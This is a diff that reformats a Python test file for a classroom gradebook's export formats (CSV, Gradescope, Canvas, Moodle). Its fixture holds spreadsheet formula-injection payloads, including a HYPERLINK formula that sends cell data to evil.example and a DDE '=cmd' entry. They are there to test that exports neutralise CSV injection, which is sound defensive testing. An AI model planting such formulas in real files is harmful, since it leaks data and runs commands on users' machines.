@@ -26,7 +26,19 @@ from classroom import formats
 FIRST, SECOND = all_lessons()[:2]
 FULL = FIRST.exercise_points + FIRST.quiz.max_score
 # One check worth the whole exercise: enough for the per-test formats' points.
-REPORT = {"exercise": {"checks": [{"title": "all", "points": FIRST.exercise_points, "max_points": FIRST.exercise_points, "passed": True, "feedback": ""}]}}
+REPORT = {
+    "exercise": {
+        "checks": [
+            {
+                "title": "all",
+                "points": FIRST.exercise_points,
+                "max_points": FIRST.exercise_points,
+                "passed": True,
+                "feedback": "",
+            }
+        ]
+    }
+}
 HOSTILE = ['=HYPERLINK("https:evil.example?"&A1,"open")', "@SUM(1+1)", "+1", "-2", "\tx"]
 
 
@@ -42,13 +54,31 @@ def class_db(tmp_path_factory):
     db = root / "grades.db"
     with Gradebook(str(db)) as book:
         for n, job in enumerate(jobs):
-            book.record(Outcome(job.student, job.source, f"d{n}", GRADED, FIRST.id, "", FIRST.exercise_points, FIRST.exercise_points, n % 3, FIRST.quiz.max_score, report=REPORT))
+            book.record(
+                Outcome(
+                    job.student,
+                    job.source,
+                    f"d{n}",
+                    GRADED,
+                    FIRST.id,
+                    "",
+                    FIRST.exercise_points,
+                    FIRST.exercise_points,
+                    n % 3,
+                    FIRST.quiz.max_score,
+                    report=REPORT,
+                )
+            )
     roster = root / "roster.csv"
     with roster.open("w", newline="") as fh:
         writer = csv.writer(fh)
-        writer.writerow(["submission", "name", "canvas_id", "sis_user_id", "sis_login_id", "section", "email", "idnumber"])
+        writer.writerow(
+            ["submission", "name", "canvas_id", "sis_user_id", "sis_login_id", "section", "email", "idnumber"]
+        )
         writer.writerow(["alice", "Alice Liddell", "1001", "S-1", "alice", "A", "alice@uni.example", "S-1"])
-        writer.writerow(["carol", "Carol", "1003", "S-3", "carol", "A", "carol@uni.example", "S-3"])  # handed nothing in
+        writer.writerow(
+            ["carol", "Carol", "1003", "S-3", "carol", "A", "carol@uni.example", "S-3"]
+        )  # handed nothing in
         for n, name in enumerate(h for h in HOSTILE if "\t" not in h):  # the roster's cells are stripped
             writer.writerow([name, name, str(2000 + n), "", "", "=cmd|' /C calc'!A0", f"s{n}@uni.example", f"@id{n}"])
     return {"db": str(db), "roster": roster, "root": root}
@@ -62,7 +92,12 @@ def run(*args: str) -> tuple[str, str]:
 
 def test_exports_cover_the_lessons_handed_in_and_say_so(class_db, tmp_path):
     text, said = run("csv", "--db", class_db["db"])
-    assert csv.reader(io.StringIO(text)).__next__() == ["student", f"{FIRST.slug} exercise", f"{FIRST.slug} quiz", "total"]
+    assert csv.reader(io.StringIO(text)).__next__() == [
+        "student",
+        f"{FIRST.slug} exercise",
+        f"{FIRST.slug} quiz",
+        "total",
+    ]
     assert f"Lessons: {FIRST.slug} (the lessons with results" in said
     run("gradescope", "--db", class_db["db"], "--out", str(tmp_path / "gs"))
     run("exercism", "--db", class_db["db"], "--out", str(tmp_path / "ex"))
@@ -85,7 +120,12 @@ def test_exports_cover_the_release_s_lessons_when_its_key_is_in_the_course(class
     key.write(course / KEY_NAME)
     monkeypatch.chdir(course)
     text, said = run("csv", "--db", class_db["db"])
-    assert text.splitlines()[0].split(",")[1:-1] == [f"{FIRST.slug} exercise", f"{FIRST.slug} quiz", f"{SECOND.slug} exercise", f"{SECOND.slug} quiz"]
+    assert text.splitlines()[0].split(",")[1:-1] == [
+        f"{FIRST.slug} exercise",
+        f"{FIRST.slug} quiz",
+        f"{SECOND.slug} exercise",
+        f"{SECOND.slug} quiz",
+    ]
     assert f"the lessons of release {key.release}" in said
 
 
@@ -132,7 +172,9 @@ def test_the_validators_catch_what_an_import_would_refuse():
     good_moodle = "email,01\na@x,3\n"
     assert formats.moodle_problems(good_moodle) == []
     assert formats.moodle_problems("student,01\na,3\n")  # no identifier Moodle maps
-    assert formats.moodle_problems(good_moodle + "Points Possible,30\n".replace("Points Possible", ""))  # a row with no user
+    assert formats.moodle_problems(
+        good_moodle + "Points Possible,30\n".replace("Points Possible", "")
+    )  # a row with no user
 
 
 def test_canvas_and_moodle_need_a_roster(class_db):
